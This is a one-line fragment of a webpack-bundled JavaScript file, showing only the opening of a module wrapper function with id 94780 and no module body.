 	94780: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
